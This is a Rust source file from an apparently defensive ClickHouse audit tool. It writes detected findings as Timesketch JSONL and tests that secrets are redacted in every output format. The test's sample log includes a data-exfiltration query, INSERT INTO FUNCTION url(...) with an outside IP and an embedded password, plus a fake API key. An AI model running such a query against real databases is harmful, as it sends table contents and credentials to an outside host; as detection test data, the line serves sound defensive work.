//! `--format timesketch`: one JSON object per finding per line, with the three fields
//! Timesketch's JSONL importer requires (`datetime`, `timestamp_desc`, `message`) and the
//! finding's fields beside them, so a finding lands on the timeline with its numbers.

use std::io::{self, Write};

use serde::Serialize;

use super::filtered;
use crate::detect::Severity;
use crate::Analysis;

#[derive(Serialize)]
struct Line<'a> {
    datetime: String,
    timestamp_desc: &'static str,
    message: String,
    rule: &'static str,
    severity: &'static str,
    user: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    client_ip: Option<String>,
    client_class: String,
    count: u64,
    last_seen: String,
    metrics: &'a std::collections::BTreeMap<&'static str, u64>,
    #[serde(skip_serializing_if = "<[String]>::is_empty")]
    tables: &'a [String],
    #[serde(skip_serializing_if = "<[String]>::is_empty")]
    targets: &'a [String],
    evidence: Vec<String>,
    data_type: &'static str,
}

/// Writes findings at or above `min` as Timesketch JSONL, in time order.
///
/// # Errors
/// Whatever the writer returns.
pub fn render_timesketch(
    analysis: &Analysis,
    min: Severity,
    out: &mut dyn Write,
) -> io::Result<()> {
    let mut rows: Vec<_> = filtered(analysis, min).collect();
    rows.sort_by(|a, b| a.first_seen.cmp(&b.first_seen).then(a.rule.cmp(&b.rule)));
    for f in rows {
        let line = Line {
            datetime: f.first_seen.to_string(),
            timestamp_desc: "First Seen",
            message: format!("[{}] {}: {}", f.severity, f.rule, f.summary),
            rule: f.rule.name(),
            severity: f.severity.name(),
            user: &f.user,
            client_ip: f.client_ip.map(|i| i.to_string()),
            client_class: f.client_class.to_string(),
            count: f.count,
            last_seen: f.last_seen.to_string(),
            metrics: &f.metrics,
            tables: &f.tables,
            targets: &f.targets,
            evidence: f
                .evidence
                .iter()
                .map(|e| match &e.excerpt {
                    Some(x) => format!("{}:{}: {x}", e.path, e.line),
                    None => format!("{}:{}", e.path, e.line),
                })
                .collect(),
            data_type: "chaudit:finding",
        };
        serde_json::to_writer(&mut *out, &line)?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use crate::report::{
        render_csv, render_html, render_ledger_text, render_timesketch, HtmlOptions,
    };
    use crate::{analyze, Config, Severity};

    /// Every new output quotes evidence; none may carry the secret.
    #[test]
    fn ok_secrets_stay_redacted_in_every_new_format() {
        let log = "type\tevent_time\tuser\taddress\tquery\tresult_bytes\twritten_bytes\n\
                   QueryFinish\t2025-01-29 10:11:12\tdefault\t198.51.100.7\tINSERT INTO FUNCTION url('http://203.0.113.9/x?password=hunter2', 'TSV', 'a String') SELECT * FROM t\t0\t4096\n\
                   QueryFinish\t2025-01-29 10:11:13\tdefault\t198.51.100.7\tSELECT 'sk-FAKE0123456789abcdefXYZ' AS k, * FROM t\t5000000\t0\n";
        let a = analyze(Config::default(), &[("q.tsv", log.as_bytes())]).unwrap();
        assert!(a.findings.len() >= 2);
        let mut outputs = Vec::new();
        for i in 0..4 {
            let mut out = Vec::new();
            match i {
                0 => render_csv(&a, Severity::Info, &mut out),
                1 => render_timesketch(&a, Severity::Info, &mut out),
                2 => render_html(&a, &HtmlOptions::default(), &mut out),
                _ => render_ledger_text(&a, &mut out),
            }
            .unwrap();
            outputs.push(String::from_utf8(out).unwrap());
        }
        for o in &outputs {
            assert!(!o.contains("hunter2") && !o.contains("sk-FAKE0123"), "{o}");
        }
        assert!(outputs[0].contains("[REDACTED]"));
        assert!(outputs[3].contains("url → 203.0.113.9"), "{}", outputs[3]);
        for line in outputs[1].lines() {
            let v: serde_json::Value = serde_json::from_str(line).unwrap();
            assert_eq!(v["timestamp_desc"], "First Seen");
            assert!(v["message"].as_str().unwrap().starts_with('['));
        }
    }
}
